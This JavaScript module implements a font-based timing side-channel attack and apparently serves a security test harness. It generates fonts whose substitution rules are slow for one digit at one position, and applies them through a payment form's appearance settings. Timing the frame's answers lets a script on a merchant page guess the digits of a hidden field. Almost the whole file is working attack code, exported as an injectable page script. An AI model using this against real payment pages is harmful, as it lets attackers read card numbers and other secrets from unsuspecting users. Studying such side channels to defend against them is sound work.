/**
 * A timing attack by a script in a merchant's page: it gives the form fonts whose substitution rules take long for
 * one digit at one place of a text, and measures which of ten fonts delays the answer of the form's frame. `ATTACK` is a script for the page of a
 * test and defines `globalThis.oracle`; it uses only the form's public calls. This file contains no test.
 */

/**
 * Something that draws a text in a given font, and answers after that.
 * @typedef {object} Victim
 * @property {number} length of the text
 * @property {(font: { family: string, base64: string }) => Promise<unknown>} wear has the text drawn in this font
 * @property {() => Promise<unknown>} ask resolves with any other answer
 *
 * @typedef {{ place: number, guess: number, lead: number }} Found the digit whose font took longest, and by how many milliseconds longer than the next
 */

/** Runs in the page, so it uses nothing of this module. */
function make() {
  /** The digit is replaced by this number of glyphs, and all rules are tried on each. */
  const COPIES = 250;
  /** An option of the form has at most 20000 characters, and tables that take too long to check are refused by engines. */
  const RULES = 5500;
  const LOOKUPS = 7;
  const [SPACE, ZERO, SLOW, GLYPHS] = [1, 2, 12, 13];

  /** @param {...(number | number[])} words of 16 bits */
  const words = (...words) => words.flat().flatMap((word) => [(word >> 8) & 255, word & 255]);
  /** @param {...number} longs of 32 bits */
  const longs = (...longs) => longs.flatMap((long) => words((long >>> 16) & 65535, long & 65535));
  /** A list of offsets to blocks that follow each other, and the blocks. @param {number} start of the first @param {number[][]} blocks */
  const offsets = (start, blocks) => blocks.map((_, place) => start + blocks.slice(0, place).reduce((sum, block) => sum + block.length, 0));
  /** @param {number[]} glyphs in order */
  const coverage = (glyphs) => words(1, glyphs.length, glyphs);

  /** Substitutions that take long for one digit at one place of a text of this length. @param {number} digit @param {number} place @param {number} length */
  function substitutions(digit, place, length) {
    const any = coverage([SPACE, ...Array.from({ length: 10 }, (_, digit) => ZERO + digit)]);
    const target = coverage([ZERO + digit]);
    // Only at this place: the rule requires this number of glyphs before and behind it, which only the text under attack has.
    const before = place;
    const behind = length - 1 - place;
    const head = 2 + 2 + 2 * before + 2 + 2 + 2 + 2 * behind + 2 + 4;
    const context = [
      ...words(3, before, Array(before).fill(head), 1, head + any.length, behind, Array(behind).fill(head), 1, 0, 1), ...any, ...target,
    ];
    const many = [...words(1, 8 + 2 + 2 * COPIES, 1, 8), ...words(COPIES, Array(COPIES).fill(SLOW)), ...target];
    // One rule that fails late, listed thousands of times.
    const rule = words(5, 0, [SLOW, SLOW, SLOW, 0]);
    const set = [...words(RULES, Array(RULES).fill(2 + 2 * RULES)), ...rule];
    const dear = [...words(1, 8 + set.length, 1, 8), ...set, ...coverage([SLOW])];

    // All expensive lookups share one table, which follows them.
    const kinds = [6, 2, ...Array(LOOKUPS).fill(5)];
    const tables = [context, many, dear];
    const lookupsAt = 2 + 2 * kinds.length;
    const tablesAt = offsets(lookupsAt + 8 * kinds.length, tables);
    const lookups = kinds.flatMap((kind, index) => words(kind, 0, 1, (tablesAt[Math.min(index, 2)] ?? 0) - (lookupsAt + 8 * index)));
    const list = [...words(kinds.length, kinds.map((_, index) => lookupsAt + 8 * index)), ...lookups, ...tables.flat()];
    const tag = (/** @type {string} */ name) => Array.from(name, (letter) => letter.charCodeAt(0));
    const language = words(4, 0, 0, 0xffff, 1, 0);
    const scripts = [...words(2), ...tag('DFLT'), ...words(14), ...tag('latn'), ...words(14), ...language];
    const used = kinds.map((_, index) => index).filter((index) => index !== 1);
    const features = [...words(1), ...tag('calt'), ...words(8), ...words(0, used.length, used)];
    return [...longs(0x00010000), ...words(10, 10 + scripts.length, 10 + scripts.length + features.length), ...scripts, ...features, ...list];
  }

  /** @param {number[]} gsub */
  function fontWith(gsub) {
    const box = [...words(1, 0, 0, 500, 700, 3, 0), 1, 1, 1, 1, ...words(0, 500, 0, -500, 0, 0, 700, 0)];
    while (box.length % 4) box.push(0);
    // Each glyph is a box, but for the space.
    const outlined = Array.from({ length: GLYPHS }, (_, glyph) => glyph !== SPACE);
    const places = outlined.reduce((/** @type {number[]} */ all, there) => [...all, (all.at(-1) ?? 0) + (there ? box.length : 0)], [0]);
    const subtable = words(4, 40, 0, 6, 4, 1, 2, 32, 57, 0xffff, 0, 32, 48, 0xffff, SPACE - 32, ZERO - 48, 1, 0, 0, 0);
    const strings = ['Oracle', 'Regular', 'Oracle', 'Oracle', '1', 'Oracle'].map((text) => Array.from(text).flatMap((letter) => words(letter.charCodeAt(0))));
    const stringsAt = offsets(0, strings);
    /** @type {Record<string, number[]>} */
    const tables = {
      'GSUB': gsub,
      'OS/2': [
        ...words(4, 500, 400, 5, 0, 300, 300, 0, 0, 300, 300, 0, 300, 50, 250, 0), ...Array(10).fill(0), ...longs(1, 0, 0, 0), ...longs(0x20202020),
        ...words(64, 32, 57, 800, -200, 0, 800, 200), ...longs(1, 0), ...words(500, 700, 0, 32, 2),
      ],
      'cmap': [...words(0, 1, 3, 1), ...longs(12), ...subtable],
      'glyf': outlined.flatMap((there) => (there ? box : [])),
      'head': [...longs(0x00010000, 0x00010000, 0, 0x5f0f3cf5), ...words(3, 1000), ...longs(0, 0, 0, 0), ...words(0, 0, 500, 700, 0, 8, 2, 1, 0)],
      'hhea': [...longs(0x00010000), ...words(800, -200, 0, 500, 0, 0, 500, 1, 0, 0, 0, 0, 0, 0, 0, GLYPHS)],
      'hmtx': Array.from({ length: GLYPHS }, () => words(500, 0)).flat(),
      'loca': places.flatMap((place) => longs(place)),
      'maxp': [...longs(0x00010000), ...words(GLYPHS, 4, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0)],
      'name': [...words(0, strings.length, 6 + 12 * strings.length), ...strings.flatMap((text, index) => words(3, 1, 0x409, index + 1, text.length, stringsAt[index] ?? 0)), ...strings.flat()],
      'post': longs(0x00030000, 0, 0, 0, 0, 0, 0, 0),
    };
    const padded = Object.entries(tables).map(([name, table]) => ({ name, size: table.length, bytes: [...table, ...Array((4 - (table.length % 4)) % 4).fill(0)] }));
    const at = offsets(12 + 16 * padded.length, padded.map(({ bytes }) => bytes));
    const sum = (/** @type {number[]} */ bytes) => bytes.reduce((total, byte, place) => (total + ((byte << (24 - 8 * (place % 4))) >>> 0)) >>> 0, 0);
    const directory = padded.flatMap(({ name, size, bytes }, index) => [...Array.from(name, (letter) => letter.charCodeAt(0)), ...longs(sum(bytes), at[index] ?? 0, size)]);
    return Uint8Array.from([...longs(0x00010000), ...words(padded.length, 128, 3, 16 * padded.length - 128), ...directory, ...padded.flatMap(({ bytes }) => bytes)]);
  }

  /** @param {number} digit @param {number} place @param {number} length in base 64 */
  const font = (digit, place, length) => {
    let text = '';
    for (const byte of fontWith(substitutions(digit, place, length))) text += String.fromCharCode(byte);
    return btoa(text);
  };

  const pause = (/** @type {number} */ ms) => new Promise((resolve) => setTimeout(resolve, ms));
  let fonts = 0;

  /**
   * Guesses digits of a text by how long answers take. In the order of places, so that one digit is measured between all others.
   * @param {Victim} victim
   * @param {number[]} places in the text
   * @param {{ restMs?: number, families?: string[], tries?: number }} [how] rest between two guesses; what the fonts are called; how often each is tried, of which the quickest counts
   * @returns {Promise<Found[]>}
   */
  async function search({ length, wear, ask }, places, { restMs = 0, families = [], tries = 1 } = {}) {
    /** @type {Found[]} */
    const found = [];
    // The first answers take longer, whatever the font.
    for (const _ of [1, 2]) await Promise.all([wear({ family: 'Warm', base64: font(0, 0, 99) }), pause(restMs)]);
    for (const place of places) {
      /** @type {number[]} */
      const times = Array(10).fill(Infinity);
      for (let guess = 0; guess < 10 * tries; guess++) {
        const digit = guess % 10;
        const base64 = font(digit, place, length);
        const family = families[fonts++ % families.length] ?? `Oracle ${fonts}`;
        const rested = pause(restMs);
        const begun = performance.now();
        await wear({ family, base64 });
        // A browser lays out when it paints next.
        await pause(40);
        await ask();
        times[digit] = Math.min(times[digit] ?? 0, performance.now() - begun);
        await rested;
      }
      const [first = 0, second = 0] = [...times].sort((a, b) => b - a);
      found.push({ place, guess: times.indexOf(first), lead: first - second });
    }
    return found;
  }

  /** A text in a plain input of this page, which anybody may draw as they like. @param {string} text @returns {Victim & { end: () => void }} */
  function plain(text) {
    const input = document.createElement('input');
    input.ariaLabel = 'Twin';
    input.value = text;
    // Some engines shape simple texts without rules, unless they are asked to.
    input.style.textRendering = 'optimizeLegibility';
    input.style.fontFeatureSettings = '"calt"';
    document.body.append(input);
    const { port1, port2 } = new MessageChannel();
    port2.onmessage = () => port2.postMessage('');
    const ask = () => new Promise((resolve) => {
      port1.onmessage = resolve;
      port1.postMessage('');
    });
    return {
      length: text.length,
      async wear({ family, base64 }) {
        const face = new FontFace(family, Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0)));
        document.fonts.add(await face.load());
        input.style.fontFamily = `"${family}"`;
        // Forces a layout now, because an engine may wait for the next paint.
        if (input.scrollWidth < 0) return;
        return ask();
      },
      ask,
      end: () => input.remove(),
    };
  }

  /** A field of a form on this page, with every option of an appearance. @param {number} length of its text @returns {Victim} */
  function form(length) {
    const form = /** @type {any} */ (document.querySelector('payment-form'));
    const parts = ['Input', 'Input:focus', 'Input:filled', 'Input:hover', 'Placeholder', 'Label', 'Checkbox', 'Error', 'Message', 'Button', 'Link', 'Title', 'Text'];
    return {
      length,
      // Setting the property has no answer, so more of the ten calls a second are left for calls with an answer.
      async wear({ family, base64 }) {
        form.appearance = {
          fonts: [{ family, src: `data:font/ttf;base64,${base64}` }],
          variables: { fontFamily: family, fontFamilyInput: family },
          rules: Object.fromEntries(parts.map((part) => [`.${part}`, { fontFamily: family }])),
        };
        if (!form.appearance) throw new Error('the form did not take the font');
      },
      ask: () => form.update({ advance: 'auto' }),
    };
  }

  return { font, search, plain, form };
}

/** A script for a page. It names its result `oracle`. */
export const ATTACK = `globalThis.oracle = (${make})();`;

/** @typedef {ReturnType<typeof make>} Oracle */

/** A digit counts as guessed if its font took this much longer than the others; less is noise. */
const LEAD_MS = 100;

/** How many digits were read: those that were guessed with a lead, and are right. @param {Found[]} found @param {string} text */
export const read = (found, text) => found.filter(({ place, guess, lead }) => lead >= LEAD_MS && String(guess) === text[place]).length;
